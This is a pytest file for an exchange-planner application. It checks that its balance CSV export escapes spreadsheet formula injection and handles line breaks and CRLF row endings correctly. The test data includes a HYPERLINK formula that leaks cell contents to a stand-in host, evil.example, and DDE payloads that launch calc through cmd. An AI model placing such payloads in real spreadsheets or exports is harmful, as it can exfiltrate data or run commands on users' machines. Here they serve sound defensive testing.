"""The balance CSV opens in a spreadsheet as data: no formulas from user text, numbers stay
numbers, line breaks inside cells are quoted and rows end with CRLF."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from exchange_planner.cli import main
from exchange_planner.domain.enums import Direction
from exchange_planner.services.csv_safe import FORMULA_START, csv_text, safe_cell
from exchange_planner.services.registry import Services
from exchange_planner.storage.database import open_database

CITY = '=HYPERLINK("http://evil.example/?x="&A1,"Gwangju")'
TITLE = "@SUM(1+1)*cmd|' /C calc'!A0\nnext,row;\"quoted\""  # stored text keeps \n only


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+49 341 123", "'+49 341 123"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("-", "'-"),
        ("-1e5", "'-1e5"),
        ("-5.00", "-5.00"),
        ("+3", "+3"),
        ("-.5", "-.5"),
        ("42", "42"),
        ("Gwangju =1", "Gwangju =1"),
        ("185.00 EUR; 30000.00 KRW", "185.00 EUR; 30000.00 KRW"),
        ("", ""),
        (None, ""),
        (-5, -5),
        (Decimal("-5.00"), Decimal("-5.00")),
    ],
)
def test_safe_cell(cell: object, written: object) -> None:
    assert safe_cell(cell) == written


def test_line_breaks_inside_cells_are_quoted_and_rows_end_with_crlf() -> None:
    rows = [("a\r\nb", "c\nd", "e\rf", 'g,"h"'), ("-5.00", "=x", "", "z")]
    text = csv_text(rows)
    assert text.endswith("\r\n")
    assert text.count("\r\n") == 3  # two row ends and the CRLF inside the first cell
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["a\r\nb", "c\nd", "e\rf", 'g,"h"'],
        ["-5.00", "'=x", "", "z"],
    ]


def _hostile_database(path: Path) -> None:
    db = open_database(path)
    try:
        services = Services.for_database(db)
        partnership = services.partnerships.create(
            partner_city=CITY, country="South Korea", timezone="Asia/Seoul"
        )
        services.visits.create(
            partnership_id=partnership.id,
            title=TITLE,
            direction=Direction.INCOMING,
            start_date=date(2025, 3, 3),
            end_date=date(2025, 3, 5),
        )
    finally:
        db.dispose()


def _check_balance_csv(data: bytes) -> None:
    text = data.decode("utf-8")
    assert text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    # Outside quoted cells every line ends with CRLF: no bare LF or CR becomes a row.
    assert text.replace("\r\n", "").count("\n") == TITLE.count("\n") - TITLE.count("\r\n")
    header, year, total, blank, open_header, open_row = rows
    assert header[0] == "partnership" and blank == []
    assert year[:2] == [f"'{CITY}", "2025"] and year[5] == "1"
    assert total[:2] == [f"'{CITY}", "total"]
    assert open_header == ["partnership", "open", "kind", "record_id", "date", "title"]
    title = f"'{TITLE}"
    assert open_row == [f"'{CITY}", "open", "visit_not_returned", open_row[3], "2025-03-03", title]
    assert open_row[3].isdigit()
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell


def test_balance_csv_as_a_command(tmp_path: Path) -> None:
    path = tmp_path / "plans.sqlite3"
    _hostile_database(path)
    result = subprocess.run(
        [sys.executable, "-m", "exchange_planner", "balance", "--db", str(path), "--format", "csv"],
        capture_output=True,
        env=os.environ.copy(),
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    assert b"Traceback" not in result.stderr
    _check_balance_csv(result.stdout)


def test_balance_csv_in_process(tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    path = tmp_path / "plans.sqlite3"
    _hostile_database(path)
    assert main(["balance", "--db", str(path), "--format", "csv"]) == 0
    _check_balance_csv(capsysbinary.readouterr().out)
